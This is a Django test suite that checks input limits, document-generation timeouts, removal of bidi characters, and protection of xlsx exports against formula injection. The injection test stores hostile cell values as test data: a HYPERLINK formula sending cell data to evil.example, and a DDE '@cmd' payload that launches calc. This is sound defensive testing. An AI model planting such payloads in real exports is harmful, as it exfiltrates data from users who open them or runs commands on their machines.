"""Issue 8: text limits reach every way in, documents are bounded in time, exports write text as text, user text
cannot reverse a line, and long tables repeat their header row."""

import io
import time
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from applications import documents
from applications.models import Application, ApplicationMember, Call, Objection
from applications.tests.conftest import reload
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
API = "/api/v1/applications"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _pdf_pages(data):
    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


# --- Defect 6: one limit per text field, applied by forms and the API -------------------------------------------------


def test_million_character_work_plan_is_refused_by_the_form(complete_draft, applicant, login):
    client = login(applicant)
    app = reload(complete_draft)
    response = client.post(
        reverse("applications:edit", args=[app.pk]),
        {"version": app.version, "studio_name": app.studio_name, "mode": "school", "work_plan": "计" * 1_000_000},
    )
    assert response.status_code == 200
    assert "不超过 5000 字符 (目前字符数 1000000)" in response.content.decode()
    after = reload(complete_draft)
    assert after.work_plan == app.work_plan and after.version == app.version


def test_million_character_work_plan_is_refused_by_the_api(complete_draft, applicant, login):
    from config.api import api

    schema = api.get_openapi_schema()
    paths = [
        (path, method)
        for path, item in schema["paths"].items()
        for method, op in item.items()
        if "work_plan" in str(op.get("requestBody", ""))
        or any("work_plan" in str(s) for s in _body_schemas(schema, op))
    ]
    if not paths:
        pytest.skip("no API operation writes work_plan yet")
    client = login(applicant)
    app = reload(complete_draft)
    for path, method in paths:
        url = path.replace("/api/v1", "/api/v1", 1).replace("{pk}", str(app.pk))
        body = {"version": app.version, "studio_name": "甲", "mode": "school", "work_plan": "计" * 1_000_000}
        response = getattr(client, method)(url, body, content_type="application/json")
        assert response.status_code == 422, (path, response.status_code)
        assert "work_plan" in response.json()["detail"] and "最多 5000" in response.json()["detail"]
    assert reload(complete_draft).work_plan == app.work_plan


def _body_schemas(schema, op):
    content = (op.get("requestBody") or {}).get("content", {})
    for media in content.values():
        ref = media.get("schema", {}).get("$ref", "")
        if ref:
            yield schema["components"]["schemas"][ref.rsplit("/", 1)[-1]]


def test_200000_character_objection_is_refused_by_the_api(complete_draft, walk, outsider, login):
    app = walk(complete_draft, "in_publicity")
    client = login(outsider)
    response = client.post(
        f"{API}/publicity/{app.publicity_id}/objections",
        {"application_id": app.pk, "content": "异" * 200_000},
        content_type="application/json",
    )
    assert response.status_code == 422
    assert response.json()["detail"] == "「content」过长（最多 5000 个字符）。"
    assert not Objection.objects.exists()
    # the page caps it at the same number, read from the same model field
    from applications.forms import ObjectionForm

    assert ObjectionForm.base_fields["content"].max_length == Objection._meta.get_field("content").max_length == 5000


def test_model_validation_enforces_the_limit_of_a_text_field(complete_draft):
    from django.core.exceptions import ValidationError

    app = reload(complete_draft)
    app.work_plan = "计" * 5001
    with pytest.raises(ValidationError) as refused:
        app.full_clean()
    assert "work_plan" in refused.value.message_dict


# --- Defect 6: document generation is bounded in time --------------------------------------------------------------


def test_a_pdf_that_takes_too_long_is_stopped_and_refused_in_chinese(complete_draft, applicant, login, settings):
    """A work_plan stored before the limit existed (1,000,000 characters) used to hold the worker for minutes."""
    settings.DOCUMENT_TIMEOUT_S = 3
    Application.objects.filter(pk=complete_draft.pk).update(work_plan="计划" * 500_000)
    client = login(applicant)
    started = time.monotonic()
    response = client.get(reverse("applications:form_pdf", args=[complete_draft.pk]))
    assert time.monotonic() - started < 20
    assert response.status_code == 503
    assert response["Content-Type"].startswith("text/html")
    assert "文书生成超过 3 秒仍未完成，已停止" in response.content.decode()


# --- Defect 8: xlsx formula injection ---------------------------------------------------------------------------------


def test_exports_write_user_text_as_text_never_as_a_formula(complete_draft, walk):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    app = walk(complete_draft, "approved")
    Application.objects.filter(pk=complete_draft.pk).update(studio_name=hostile)  # e.g. typed in the admin
    applicant = app.applicant
    type(applicant).objects.filter(pk=applicant.pk).update(display_name="+SUM(1,2)")
    Call.objects.filter(pk=app.call_id).update(title="@cmd|' /C calc'!A0")
    call = Call.objects.get(pk=app.call_id)
    for data, _, _ in (documents.review_summary_xlsx(call), documents.proposed_list_xlsx(call)):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets and not any("<f>" in archive.read(n).decode() for n in sheets)
        book = load_workbook(io.BytesIO(data))
        cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        values = {c.value for c in cells}
        assert hostile in values and "+SUM(1,2)" in values  # shown as typed, as text
        assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")


def test_every_xlsx_is_written_by_the_one_export_helper():
    """No module but reports/xlsx.py builds a workbook (exports and import templates alike)."""
    from pathlib import Path

    from django.conf import settings

    offenders = []
    for app in settings.PROJECT_APPS:
        for path in (settings.BASE_DIR / app).rglob("*.py"):
            if "tests" in path.parts or "migrations" in path.parts:
                continue
            rel = str(path.relative_to(settings.BASE_DIR))
            if rel == "reports/xlsx.py":
                continue
            text = Path(path).read_text()
            if "Workbook(" in text or "xlsxwriter" in text:
                offenders.append(rel)
    assert not offenders, offenders


# --- Defect 15: bidi overrides do not reach documents -----------------------------------------------------------------


def test_bidi_overrides_in_user_text_are_stripped_from_pdf_docx_and_xlsx(complete_draft, walk):
    app = walk(complete_draft, "proposed")
    Application.objects.filter(pk=complete_draft.pk).update(
        studio_name="\u202e数控车工技能大师工作室",
        venue_school="实训楼\u2066A201\u2069",
        work_plan="\u202d2026-09-01 开班",
    )
    pdf, _, _ = documents.application_form_pdf(complete_draft)
    text = "".join(_pdf_pages(pdf))
    assert not any(ch in text for ch in BIDI)
    assert "数控车工技能大师工作室" in text and "2026-09-01" in text
    data, _, _ = documents.application_form_docx(complete_draft)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml").decode()
    assert not any(ch in xml for ch in BIDI) and "实训楼A201" in xml
    book = load_workbook(io.BytesIO(documents.proposed_list_xlsx(Call.objects.get(pk=app.call_id))[0]))
    values = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert "数控车工技能大师工作室" in values and not any(ch in v for v in values for ch in BIDI)


# --- Also: the members table repeats its header row on every page ---------------------------------------------------


def test_members_table_repeats_its_header_on_the_next_page(complete_draft, department):
    members = [
        UserFactory(username=f"M8{i:03d}", display_name=f"成员{i:03d}", department=department) for i in range(70)
    ]
    ApplicationMember.objects.bulk_create(
        [ApplicationMember(application=complete_draft, user=u, role="member") for u in members]
    )
    pages = _pdf_pages(documents.application_form_pdf(complete_draft)[0])
    with_members = [i for i, text in enumerate(pages) if "成员0" in text]
    assert len(with_members) >= 2, "the members table should span pages for this test"
    for index in with_members:
        assert "单位/系部" in pages[index], f"page {index + 1} continues the members table without its header row"
